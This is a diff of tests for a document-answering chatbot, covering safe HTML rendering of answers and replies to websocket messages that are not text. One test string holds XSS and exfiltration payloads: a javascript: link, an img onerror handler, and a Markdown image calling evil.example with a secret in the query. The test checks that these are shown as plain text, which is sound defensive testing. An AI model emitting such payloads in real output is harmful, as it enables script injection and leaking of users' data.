@@ -56,6 +56,18 @@ def test_answers_show_citation_markers_and_escape_html():
     assert '$' not in html  # would be read as math by Streamlit's Markdown
 
 
+def test_an_answer_never_renders_links_or_images_the_documents_planted():
+    """Issue 25: an answer quoting an upload's Markdown showed a link (to anywhere) and loaded an image."""
+    from markdown_it import MarkdownIt
+    answer = ('Send it [here](javascript:alert(1)) or [there][ref] ![pixel](https://evil.example/t.png?q=secret) '
+              '<img src=x onerror=alert(1)> [1][2] and [3, 1].\n\n[ref]: https://evil.example')
+    html = render.answer_markdown(answer)
+    rendered = MarkdownIt('commonmark').render(html)
+    assert '<a ' not in rendered and '<img' not in rendered, rendered
+    assert 'javascript:alert(1)' in rendered and '[here]' in rendered  # shown as the text it is
+    assert rendered.count('class="rag-cite"') == 4
+
+
 def test_sources_show_file_page_score_snippet_cited_first():
     message = {'answer': 'A [2].', 'cited': [2], 'docs': [
         {'content': 'first fragment', 'metadata': {'source': 'a.pdf', 'page': 1, 'score': 0.5}},
@@ -220,7 +232,7 @@ def webchat_states(bot, platform, rag):
             reply_rag_streaming(platform, session, rag)
 
     def upload_body(session: Session) -> None:
-        session.reply(describe_ingestion(rag.add_file(session.file)))
+        session.reply(describe_ingestion(rag.add_file(session.file, session=session)))
 
     for state, body in ((initial, initial_body), (answer, answer_body), (upload, upload_body)):
         state.set_body(body)
@@ -489,3 +501,17 @@ def test_demo_bot_overview_is_an_answer_with_its_sources(corpus_store_dir, tmp_p
         assert not repeated_sentences(message['answer']), message['answer']
         html = render.sources_html(message)
         assert html.count('rag-source rag-source-cited') == len(markers)
+
+
+def test_demo_bot_answers_a_message_that_is_not_text(corpus_store_dir, tmp_path, monkeypatch):
+    """Issue 25: the demo bot did not answer a websocket message whose ``message`` is a number, null or an object
+    (AttributeError in rag_body). It asks for text, and goes on answering."""
+    with demo_bot_client(corpus_store_dir, tmp_path, monkeypatch) as client:
+        for payload in (123, None, {'x': 1}, [], True, 4.5):
+            mark = len(client.received)
+            client.ws.send(json.dumps({'action': 'user_message', 'message': payload}))
+            reply = client.wait_for('bot_reply_str', timeout=30, after=mark)
+            assert reply['message'] == 'Please send your question as text.', payload
+            time.sleep(0.5)  # nothing more: no answer, no clarification
+            assert len(client.received) - mark == 1, client.received[mark:]
+        assert '30 days' in client.ask('How long do deleted notes stay in the trash?')['message']['answer']
